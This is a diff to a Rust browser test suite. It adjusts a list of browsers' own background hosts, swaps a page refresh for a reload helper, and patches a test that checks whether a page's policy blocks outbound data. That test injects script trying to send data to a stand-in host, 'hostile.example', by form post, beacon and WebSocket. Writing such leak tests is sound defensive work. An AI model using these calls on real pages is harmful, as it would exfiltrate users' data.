@@ -6,7 +6,7 @@ use std::path::Path;
 use fantoccini::Client;
 
 use crate::browser::Browser;
-use crate::page::{check, press, see, until, until_saved};
+use crate::page::{check, press, reload, see, until, until_saved};
 use crate::site::{Asked, Site, dist};
 
 /// What browsers ask their makers for on their own account, whatever page is open: sign-in, updates, the time, the
@@ -16,6 +16,7 @@ const BROWSERS_OWN: &[&str] = &[
     "clients2.google.com:443",
     "update.googleapis.com:443",
     "start.duckduckgo.com:443",
+    "firefox.settings.services.mozilla.com:443",
     "http://clients2.google.com/time/",
     "http://update.googleapis.com/service/update2/",
 ];
@@ -73,7 +74,7 @@ async fn whole_session(browser: &Browser) {
     press(client, "#licences-page .dialog-close").await;
     until_saved(client).await;
     until_kept(client).await;
-    client.refresh().await.unwrap();
+    reload(client).await;
     press(client, "#step-review").await;
     see(client, "#cases .case").await;
 }
@@ -123,7 +124,8 @@ async fn the_policy_stops_what_would_leave() {
         add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
         const form = Object.assign(document.createElement('form'), { action: 'http://hostile.example/form', method: 'post' });
         document.body.append(form);
-        form.submit();
+        // Firefox throws here.
+        try { form.submit(); } catch {}
         try { navigator.sendBeacon('http://hostile.example/beacon', 'x'); } catch {}
         try { new WebSocket('ws://hostile.example/socket'); } catch {}
         setTimeout(() => done([stopped, window.smuggled === true]), 1500);";
